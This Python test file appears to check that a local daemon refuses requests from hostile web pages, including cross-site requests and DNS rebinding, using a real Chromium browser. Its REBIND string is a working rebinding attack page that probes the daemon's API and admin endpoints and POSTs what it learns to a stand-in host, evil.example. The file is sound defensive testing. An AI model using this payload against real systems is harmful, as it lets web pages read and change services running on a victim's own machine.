"""Browsers get nowhere: a real Chromium with a hostile page open, across sites and by rebinding."""
import collections
import pathlib
import socket

import pytest

import browser
from browser import Site
from rig import until

pytestmark = pytest.mark.skipif(bool(browser.missing()), reason=browser.missing() or "-")

ATTACK = (pathlib.Path(__file__).parent / "browser_attack.html").read_text()


def page(rig, referrer, hosts):
    def list_of(port):
        return ", ".join('"http://%s:%d"' % (host, port) for host in hosts)
    return (ATTACK.replace("REFERRER", referrer).replace("APIS", list_of(rig.port))
            .replace("ADMINS", list_of(rig.admin_port)))


def table(name, report, records):
    """Prints what was tried, what the page learned, and what the audit log says about it."""
    heard = collections.defaultdict(list)
    for record in records:
        heard[record["path"].split("?name=")[0]].append(record)
    print("\n%s" % name)
    for a in report:
        print("%-44s %-44s %s" % (a["url"], a["name"], a["result"]))
        a["heard"] = heard[a["target"].replace("/probe/scheme/flatten", "")]
        for record in a["heard"]:
            print("    %s %d %s: %s" % (record.get("method"), record["status"], record["code"],
                                        record["error"]))
    results = collections.Counter(a["result"].split(" ")[0].rstrip(":,") for a in report)
    print("%s: %d attempts (%s), %d refusals on record, %d attempts that the daemon heard" % (
        name, len(report), ", ".join("%d %s" % (n, word) for word, n in results.most_common()),
        len(records), sum(bool(a["heard"]) for a in report)))


# Which page, and which names it calls the daemon by.
PAGES = {
    "another site": ("evil.example", "unsafe-url", ["127.0.0.1"]),
    "another site without referrer": ("evil.example", "no-referrer", ["127.0.0.1", "localhost"]),
    "another port of localhost": ("localhost", "no-referrer", ["localhost", "127.0.0.1"]),
    "names that mean the same machine": ("evil.example", "no-referrer", ["0.0.0.0", "mine.example"]),
}


@pytest.mark.parametrize("name", sorted(PAGES))
def test_a_hostile_page(rig, lookalike, tmp_path, name):
    host, referrer, called = PAGES[name]
    with Site({"/": page(rig, referrer, called)}) as site:
        names = {"evil.example": "127.0.0.1", "mine.example": "127.0.0.1"}
        url = "http://%s:%d/" % (host, site.port)
        with browser.browsing(tmp_path, url, names):
            report = site.wait_report(120)
            if called[0] != "0.0.0.0":  # the page itself went there in the end
                until(lambda: any(r["path"] == "/v1/org/9999" for r in rig.records("reject")),
                      what="the navigation")
    rejects = rig.records("reject")
    table(name, report, rejects)
    assert lookalike.requests == [] and lookalike.bytes_seen == 0
    assert rig.records("intent") == []
    assert [a for a in report if a["result"].startswith("READ")] == []
    for record in rejects:
        assert (record["status"], record["code"]) == (403, "forbidden"), record
        assert "web pages" in record["error"] or "the Host" in record["error"], record
    # It was the daemon that refused, not the browser (which may itself refuse 0.0.0.0 one day).
    assert [a for a in report if "//0.0.0.0" not in a["url"] and not a["heard"]] == []
    assert rig.metric("cention_requests_total") == 0


REBIND = """<!doctype html><meta charset="utf-8"><meta name="referrer" content="no-referrer">
<script>
async function ask(method, path, type) {
  const options = {method, cache: "no-store"};
  if (type) Object.assign(options, {headers: {"Content-Type": type}, body: '{"name":"owned"}'});
  try {
    const r = await fetch(path, options);
    return {name: method + " " + path, status: r.status, text: (await r.text()).slice(0, 300)};
  } catch (e) { return {name: method + " " + path, status: 0, text: e.name}; }
}
async function all() {
  await fetch("/gone", {method: "POST"});         // this server ends now; its name stays
  let first, results = [];
  for (let i = 0; i < 100; i++) {
    first = await ask("GET", "/metrics");
    if (first.status && first.status != 404) break;  // 404: it has not ended yet
    await new Promise(r => setTimeout(r, 100));
  }
  results.push(first);
  for (const [m, p, t] of [["GET", "/readyz"], ["HEAD", "/healthz"], ["GET", "/v1/org/1"],
                           ["POST", "/v1/org", "application/json"],
                           ["PUT", "/v1/org/1", "application/json"], ["DELETE", "/v1/org/1"],
                           ["OPTIONS", "/v1/org"],
                           ["PUT", "/probe/scheme/flatten/v1/org/1", "application/json"]])
    results.push(await ask(m, p, t));
  // Its own server has another port, and takes what is sent there.
  await fetch("http://evil.example:COLLECTOR/report",
              {method: "POST", mode: "no-cors", body: JSON.stringify(results)});
}
onload = all;
</script>"""


def has_ipv6():
    try:
        socket.create_server(("::1", 0), family=socket.AF_INET6).close()
        return True
    except OSError:
        return False


@pytest.mark.skipif(not has_ipv6(), reason="there is no ::1 to serve the first address from")
@pytest.mark.parametrize("victim", ["without a check", "api", "admin"])
def test_rebinding(rig, lookalike, tmp_path, victim):
    """One name with two addresses: the page comes from the first, which then closes, so that the
    browser goes on at the second, the daemon's: the same origin for all that it knows. A server
    that doesn't look at Host shows that the attack works."""
    careless = Site({"/metrics": "the careless one's metrics"}, port=0)
    port = {"without a check": careless.port, "api": rig.port, "admin": rig.admin_port}[victim]
    with careless, Site({}) as collector, Site({}, "::1", port) as first:
        first.pages["/"] = REBIND.replace("COLLECTOR", str(collector.port))
        # "localhost" is what gives a name two addresses without a DNS server.
        names = {"rebind.example": "localhost", "evil.example": "127.0.0.1"}
        with browser.browsing(tmp_path, "http://rebind.example:%d/" % port, names):
            until(lambda: any("/gone" in line for line in first.seen), 60, "the page's start")
            first.close()
            report = collector.wait_report(60)
    print()
    for a in report:
        print("%-45s %3d %s" % (a["name"], a["status"], a["text"].strip()[:110]))
    if victim == "without a check":
        assert report[0]["text"] == "the careless one's metrics"
        return
    assert len(report) == 9
    for a in report:
        assert a["status"] == 403 and "cention_" not in a["text"] and "ready" not in a["text"], a
        assert a["text"] == "" or "rebind.example:%d" % port in a["text"]
    assert lookalike.requests == [] and lookalike.bytes_seen == 0
    rejects = rig.records("reject")
    assert len(rejects) >= 9 and rig.records("intent") == []
    for record in rejects:
        assert record["status"] == 403 and "rebind.example:%d" % port in record["error"], record


def test_opening_a_rebound_name(rig, lookalike, tmp_path):
    """The address of a page that is the daemon from the first request on."""
    names = {"rebind.example": "127.0.0.1"}
    url = "http://rebind.example:%d/metrics" % rig.admin_port
    with browser.browsing(tmp_path, url, names):
        until(lambda: rig.records("reject"), 60, "the request")
    reject = rig.records("reject")[0]
    assert reject["status"] == 403 and "rebind.example" in reject["error"]


def test_a_user_may_look(rig, tmp_path):
    """Who types the address of the metrics sees them: no page asked for that."""
    assert "cention_requests_total 0" in browser.dump(
        tmp_path, "http://127.0.0.1:%d/metrics" % rig.admin_port)
    # Its icon is asked for by the document, no longer by the user.
    assert {r["path"] for r in rig.records("reject")} <= {"/favicon.ico"}
